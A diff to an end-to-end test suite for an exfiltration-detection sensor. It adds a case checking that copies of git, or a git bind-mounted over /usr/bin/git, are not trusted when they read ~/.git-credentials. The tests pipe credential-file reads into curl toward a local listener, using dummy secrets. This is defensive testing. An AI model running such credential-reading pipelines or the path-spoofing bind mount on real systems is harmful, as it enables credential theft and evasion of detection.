@@ -29,8 +29,13 @@ BW = ""
 ROOT = ""
 
 SHADOW = "/etc/shadow"
-CRED = "credential access"
-SSH = "ssh key exfiltration"
+# category names of the built-in rules (docs/rules.md); the seed's file calls
+# /etc/shadow "credential access", the cases that load it say so themselves
+CRED = "password hashes"
+CLOUD = "cloud credentials"
+SSH = "ssh private keys"
+GIT_CREDS = "git credentials"
+SEED_CRED = "credential access"
 
 # Dummy secrets: not real keys or credentials.
 DUMMY_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
@@ -212,7 +217,7 @@ def case_command_substitution():
         print(f"relation chosen for $(cat ...); curl: {a.get('relation')!r}")
         check_proc(a.get("process"), "process", a, comm="curl", exe=curl)
         check_proc(a.get("reader"), "reader", a, comm="cat", exe=cat)
-        check_common(a, path=creds, category=CRED, port=lst.port)
+        check_common(a, path=creds, category=CLOUD, port=lst.port)
         check(a.get("relation") != "self", f"relation is self: curl itself read the file?; {ctx(a)}")
         ev = trace_events(ws)
         cat_pids = {e["pid"] for e in ev if e.get("kind") == "exec" and e.get("comm") == "cat"
@@ -483,7 +488,7 @@ def check_trusted_name_child(sensor, actor, child, lst, baseline, what):
     show(what, a)
     check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
     check_proc(a.get("parent"), "parent", a, pid=actor.pid)
-    check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=child, relation="self")
+    check_common(a, path=SHADOW, category=SEED_CRED, port=lst.port, reader_pid=child, relation="self")
     legit = [x for x in a.get("score_breakdown") or [] if x.get("reason", "").startswith("legit")]
     check(legit == [], f"{what}: a name alone lowered the score: {legit}; {ctx(a)}")
     check(a.get("score") == baseline.get("score"),
@@ -619,6 +624,109 @@ def case_unrelated_sessions():
         show("control", c)
         check_proc(c.get("process"), "process", c, pid=ctl_sender)
         check_common(c, path=SHADOW, category=CRED, port=lst.port, reader_pid=ctl_reader, relation="sibling")
+
+
+# --------------------------------------------------------------------------- 7: trusted binaries (issue 5)
+
+DUMMY_GIT_CREDS = "https://barbwire-e2e:dummy-token-not-real@git.example.invalid\n"
+
+
+def case_trusted_binary_copy():
+    """7. The built-in rules trust /usr/bin/git (root-owned, 0755) for ~/.git-credentials
+    by path alone. Three sessions pipe `git hash-object ~/.git-credentials` into curl:
+      A. /usr/bin/git itself: no alert, although the recording shows git's open;
+      B. a byte-identical copy of git in the user's home (same sha256, another path): one
+         alert, reader the copy;
+      C. that copy, owned by nobody, bind-mounted over /usr/bin/git in a private mount
+         namespace, so the kernel path IS /usr/bin/git: one alert, because a path alone
+         trusts only a root-owned file that group and others cannot write."""
+    h.require_root_and_sensor()
+    git, curl = which_real("git"), which_real("curl")
+    unshare, mount = which_real("unshare"), which_real("mount")
+    check(git == "/usr/bin/git", f"git is {git}, not the /usr/bin/git the built-in rules trust")
+    st = os.stat(git)
+    check(st.st_uid == 0 and st.st_mode & 0o022 == 0, f"{git} is not root-owned and write-protected: {oct(st.st_mode)}")
+    paths = {}
+
+    def prepare(ws):
+        home = make_home(ws)
+        creds = os.path.join(home, ".git-credentials")
+        h.write_file(creds, DUMMY_GIT_CREDS, mode=0o600)
+        rules = h.builtin_rules_json(ROOT)
+        trusted = [t for t in rules.get("trusted_binaries", []) if t.get("exe") == git]
+        check(trusted and GIT_CREDS in trusted[0].get("categories", [GIT_CREDS]) and "sha256" not in trusted[0],
+              f"the built-in rules do not trust {git} by path for {GIT_CREDS!r}: {trusted}")
+        os.makedirs(os.path.join(home, "bin"))
+        copy = os.path.join(home, "bin", "git")
+        shutil.copy2(git, copy)
+        os.chown(copy, 65534, 65534)          # nobody: outside what only root can write
+        os.chmod(copy, 0o755)
+        paths.update(home=home, creds=creds, copy=copy)
+        return None                           # built-in rules
+
+    with h.scenario(BW, prepare, record=True) as (ws, sensor, lst):
+        home, creds, copy = paths["home"], paths["creds"], paths["copy"]
+        send = f'| {curl} -sS -o /dev/null --max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/'
+        env = shell_env(home)
+        digest = subprocess.run([git, "hash-object", creds], capture_output=True, check=True,
+                                env=env).stdout.strip()
+        a_sh = h.Shell(f'{git} hash-object "$HOME/.git-credentials" {send}', env=env)
+        a_sh.wait()
+        check(lst.received(digest), f"session A: the listener did not receive git's output: {lst.bodies()}")
+        b_sh = h.Shell(f'"$HOME/bin/git" hash-object "$HOME/.git-credentials" {send}', env=env)
+        b_sh.wait()
+        # git stays alive (reading paths from stdin) while the sensor examines /proc/PID/exe:
+        # the bind mount exists only in this namespace, so a look by path from the sensor's
+        # namespace finds the real git, another inode, and the owner would be unknown
+        c_sh = h.Shell(f'exec {unshare} --mount --propagation private -- bash -c '
+                       f'\'{mount} --bind "$HOME/bin/git" {git} && '
+                       f'{{ echo "$HOME/.git-credentials"; sleep 2; }} | {git} hash-object --stdin-paths {send}\'',
+                       env=env)
+        c_sh.wait()
+        settle(sensor, c_sh.leader)
+        settle(sensor, b_sh.leader)
+        time.sleep(1.0)
+        sensor.stop_cleanly()
+        ev = trace_events(ws)
+
+        def git_readers(leader):
+            """(pid, exec line) of the processes of `leader`'s session that opened the credentials."""
+            execs = {e["pid"]: e for e in ev if e.get("kind") == "exec" and e.get("sid") == leader}
+            opened = {e["pid"] for e in ev if e.get("kind") == "open" and e.get("path") == creds}
+            return [(pid, execs[pid]) for pid in sorted(opened) if pid in execs]
+
+        # A: trusted, and the silence is the trust's doing: the sensor saw git open the file
+        ra = git_readers(a_sh.leader)
+        check(len(ra) == 1 and ra[0][1].get("exe") == git, f"session A: expected one open of {creds} by {git}, "
+                                                            f"got {ra}")
+        x = ra[0][1]
+        check(x.get("exe_uid") == 0 and x.get("exe_mode") == format(st.st_mode & 0o7777, "04o"),
+              f"session A: the recorded exec of git has exe_uid {x.get('exe_uid')!r} and exe_mode "
+              f"{x.get('exe_mode')!r}, expected 0 and {format(st.st_mode & 0o7777, '04o')}: {x}")
+        check(sensor.alerts_in_session(a_sh.leader) == [],
+              f"session A: trusted /usr/bin/git alerted: {sensor.alerts_in_session(a_sh.leader)}")
+
+        # B: the same bytes at another path
+        b = one_alert(sensor.alerts_in_session(b_sh.leader), f"session B {b_sh.leader}", sensor)
+        show("copy of git", b)
+        check_common(b, path=creds, category=GIT_CREDS, port=lst.port, relation="sibling")
+        check_proc(b.get("reader"), "reader", b, exe=copy)
+        check_proc(b.get("process"), "process", b, comm="curl", exe=curl)
+        check((b.get("reader") or {}).get("sha256") == h.sha256_of(git),
+              f"session B: the copy's sha256 {(b.get('reader') or {}).get('sha256')!r} is not git's; {ctx(b)}")
+
+        # C: the kernel path is /usr/bin/git, the file behind it is nobody's
+        rc = git_readers(c_sh.leader)
+        check(len(rc) == 1 and rc[0][1].get("exe") == git, f"session C: expected one open of {creds} by a process "
+                                                            f"running {git} (the bind mount), got {rc}")
+        check(rc[0][1].get("exe_uid") == 65534, f"session C: exe_uid {rc[0][1].get('exe_uid')!r} != 65534; "
+                                                f"{rc[0][1]}")
+        c = one_alert(sensor.alerts_in_session(c_sh.leader), f"session C {c_sh.leader}", sensor)
+        show("nobody's git at /usr/bin/git", c)
+        check_common(c, path=creds, category=GIT_CREDS, port=lst.port, relation="sibling")
+        check_proc(c.get("reader"), "reader", c, pid=rc[0][0], exe=git)
+        check((c.get("reader") or {}).get("sha256") == h.sha256_of(git),
+              f"session C: the reader's sha256 is not the copy's (git's bytes); {ctx(c)}")
 
 
 # --------------------------------------------------------------------------- driver
